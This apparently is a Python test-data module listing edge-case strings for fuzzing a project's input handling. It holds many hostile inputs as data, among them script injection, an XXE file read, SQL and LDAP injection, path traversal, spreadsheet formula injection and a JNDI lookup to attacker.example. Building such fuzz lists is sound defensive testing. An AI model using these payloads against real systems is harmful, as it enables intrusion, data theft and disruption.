"""Strings that break programs, for whatever a person or a program may send: our own, and the folder of
`UPPLYS_TEST_DATA`'s where it is named.

`STORABLE` are texts, however odd, that a JSON string can carry. `HALVES` hold half a surrogate pair, which
JSON can write (backslash u) and no table can keep.
"""

import json
import os
from pathlib import Path
from typing import Final

MARKUP: Final = (
    "<script>alert('upplys')</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)//",
    "</title><script>alert(1)</script>",
    "</textarea><iframe src=javascript:alert(1)>",
    '\'"><a href="javascript:alert(1)">x</a>',
    '" onmouseover="alert(1)" x="',
    "[x](javascript:alert(1))",
    "![x](https://attacker.example/pixel.png)",
    "<https://attacker.example>",
    "[x]: data:text/html;base64,PHNjcmlwdD4=",
    "<!--<script>--><!-->",
    "<![CDATA[x]]><b>",
    ']]>&x;<!ENTITY x SYSTEM "file:///etc/passwd">',
    "&lt;b&gt;&amp;amp;&#0;&#xD800;&nbsp;",
    "</Say><Dial>+46701740605</Dial><Say>",
    "</Response><Hangup/>",
    "<Redirect>https://attacker.example</Redirect>",
    '<speak><break time="3600s"/></speak>',
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content=0;url=https://attacker.example>",
)
TEMPLATES: Final = (
    "{{7*7}}",
    "{{ config.items() }}",
    "{% include '/etc/passwd' %}",
    "{{ '' .__class__.__mro__ }}",
    "${7*7}#{7*7}",
    "{area}",
    "{next_information}",
    "{nope}",
    "{area",
    "}{",
    "{" * 200,
    "%(name)s %(why)s",
    "%s%d%n%99999999c",
    "{0!r:>99999999}",
    "$(reboot)`reboot`",
    "; DROP TABLE incidents; --",
    "' OR '1'='1",
    "\\'; SELECT pg_sleep(60); --",
    "*)(uid=*))(|(uid=*",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    '=HYPERLINK("https://attacker.example")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "${jndi:ldap://attacker.example/a}",
    "Set-Cookie: upplys_session=x\r\nX: y",
)
CHARACTERS: Final = (
    "",
    " ",
    "\u00a0\u2003\u3000",
    "\u200b",
    "\u200b\u200c\u200d\u2060\ufeff",
    "\x00",
    "Norr\x00by",
    "\x01\x02\x03\x08\x0b\x0c\x0e\x1f\x7f",
    "\x1b[2J\x1b]0;owned\x07",
    "rad ett\r\nrad två\rrad tre\n\n\nrad fyra",
    "\ttab\t",
    "\x85\u2028\u2029",
    "\u202eneddäv\u202c",
    "\u2066left\u2067right\u2069",
    "\u200f\u061cالنوربي\u200e",
    "\ufff9\ufffa\ufffb\ufffc\ufffd",
    "\ufdd0\uffff\U0001fffe",
    "\U000e0001\U000e0041",
    "\ue000\U000f0000",
    "ﷺ" * 100,
    "e" + "\u0301" * 500,
    "Å" + "\u030a" * 50,
    "Å Å Å",
    "ﬁﬂ½Ⅷ①",
    "İıſẞ",
    "ᚠᛇᚻ 𐌰𐌹 𝔘𝔫𝔦",
    "👩‍👩‍👧‍👦👍🏿🇸🇪🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "水を沸かす 물을 끓이다",
    "שלום \u200fעולם",
    "१२३ ٣٤٥ ۶۷۸ 12",
)
SHAPES: Final = (
    "x" * 1_000,
    "ö" * 10_001,
    "x " * 500,
    "🌊" * 300,
    "a.b.c.d" * 300,
    "- " * 200,
    "# " * 200,
    "> " * 500,
    "*" * 999,
    "_" * 999,
    "[" * 999,
    "(" * 999,
    "```\n" * 50,
    "---\n" * 50,
    "| a | b |\n" * 50,
    "1" * 400,
    "1e999",
    "-0",
    "NaN",
    "null",
    "true",
    "undefined",
    "None",
    "0x1F",
    "1/0",
    "2026-02-30T25:61:61Z",
    "+46 8 465 004 00",
    "19811218-9876",
    "ÖVNING",
    "ÖVNING ÖVNING ÖVNING",
)
STORABLE: Final = MARKUP + TEMPLATES + CHARACTERS + SHAPES
HALVES: Final = ("\ud800", "Norr\udc00by", "\udfff\ud800", "🌊\ud83c")


def texts() -> tuple[str, ...]:
    """All of them but halves of pairs, and the named folder's."""
    folder = os.environ.get("UPPLYS_TEST_DATA")
    named = Path(folder) / "naughty" / "blns.json" if folder else None
    further = json.loads(named.read_text(encoding="utf-8")) if named and named.exists() else []
    return tuple(dict.fromkeys((*STORABLE, *further)))
